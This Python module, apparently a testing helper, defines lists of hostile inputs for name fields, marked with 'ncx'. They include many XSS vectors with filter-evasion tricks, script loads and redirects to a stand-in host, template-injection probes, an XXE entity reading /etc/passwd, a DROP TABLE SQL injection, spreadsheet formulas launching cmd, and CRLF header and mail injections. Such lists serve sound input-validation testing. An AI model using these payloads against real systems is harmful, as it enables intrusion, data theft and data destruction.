"""What people with ill will type where a name is asked for."""

from __future__ import annotations

MARK = "ncx"

# Each would do something where it is taken for more than text; MARK tells it apart on a page.
PAYLOADS = (
    "<script>alert('ncx')</script>",
    "<ScRiPt src=//ncx.example/x.js></sCrIpT>",
    "</script><script>alert(/ncx/)</script>",
    "</title><script>alert('ncx')</script>",
    "</textarea><script>alert('ncx')</script>",
    "</style><script>alert('ncx')</script>",
    "<!--<script>--><script>alert('ncx')</script>",
    "<<script>alert('ncx')//<</script>",
    "<scr<script>ipt>alert('ncx')</scr</script>ipt>",
    "<img src=x onerror=alert('ncx')>",
    "<img src='x' onerror='alert(`ncx`)' ",
    "<svg onload=alert('ncx')>",
    "<svg/onload=alert('ncx')//",
    "<svg><script>alert('ncx')</script></svg>",
    "<svg><animate onbegin=alert('ncx') attributeName=x dur=1s>",
    "<svg><foreignObject><iframe src=javascript:alert('ncx')>",
    "<math><mi xlink:href='javascript:alert(1)'>ncx</mi></math>",
    "<iframe srcdoc=\"<script>alert('ncx')</script>\">",
    "<iframe src=javascript:alert('ncx')>",
    "<object data=javascript:alert('ncx')>",
    "<embed src=javascript:alert('ncx')>",
    "<base href=//ncx.example/>",
    "<meta http-equiv=refresh content='0;url=//ncx.example'>",
    "<link rel=stylesheet href=//ncx.example/x.css>",
    "<style>@import'//ncx.example/x.css';</style>",
    "<form action=//ncx.example><input name=password autofocus onfocus=alert('ncx')>",
    "<details open ontoggle=alert('ncx')>",
    "<body onload=alert('ncx')>",
    "<marquee onstart=alert('ncx')>",
    "<video><source onerror=alert('ncx')></video>",
    "<a href=javascript:alert('ncx')>ncx</a>",
    "<a href='jav&#x09;ascript:alert(1)'>ncx</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>ncx</a>",
    '" onmouseover="alert(\'ncx\')" x="',
    "' onfocus='alert(1)' autofocus x='ncx",
    "` onmouseover=alert('ncx') `",
    "\"><img src=x onerror=alert('ncx')>",
    "'><svg onload=alert('ncx')>",
    "javascript:alert('ncx')",
    "JaVaScRiPt:alert('ncx')//",
    "{{ 7|add:7 }}{% load static %}ncx",
    "{{constructor.constructor('alert(1)')()}} ncx",
    "${7*7} #{7*7} <%= 7*7 %> ncx",
    "%s%s%(ncx)s %d {0} {ncx}",
    "＜script＞alert('ncx')＜/script＞",
    "\u202e<script>alert('ncx')</script>\u202c",
    "<\u0130mg src=x onerror=alert('ncx')>",
    "&lt;script&gt;alert('ncx')&lt;/script&gt;",
    "\\u003cscript\\u003ealert('ncx')\\u003c/script\\u003e",
    "]]><script>alert('ncx')</script>",
    "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><x>&e; ncx</x>",
    "'; DROP TABLE accounts_user; -- ncx",
    "<img hx-get='//ncx.example' hx-trigger='load'>",
    "<p hx-on:click=alert('ncx')>ncx</p>",
)
# Where a line has a meaning of its own: feeds, headers, tables.
LINES = (
    '=HYPERLINK("http://ncx.example","ncx")',
    "+cmd|' /C calc'!A0 ncx",
    "-2+3+cmd|' /C calc'!A0 ncx",
    "@SUM(1+1)*cmd|' /C calc'!A0 ncx",
    "\t=1+1 ncx",
    "ncx\r\nATTACH:http://ncx.example",
    "ncx\r\nEND:VEVENT\r\nBEGIN:VALARM\r\nACTION:PROCEDURE",
    "ncx\r\nSet-Cookie: ncx=1",
    "ncx\r\nBcc: ncx@ncx.example",
    "ncx;X=1:,\\n;ATTENDEE",
)
ALL = (*LINES, *PAYLOADS)


def as_many_as_fit(length: int | None, first: int) -> str:
    """Payloads one after another, beginning with one of them, as long as they fit."""
    turned = [*ALL[first % len(ALL) :], *ALL[: first % len(ALL)]]
    if length is None:
        return " ".join(turned)
    text = ""
    for one in turned:
        if len(text) + len(one) + 1 <= length:
            text = f"{text} {one}" if text else one
    return text
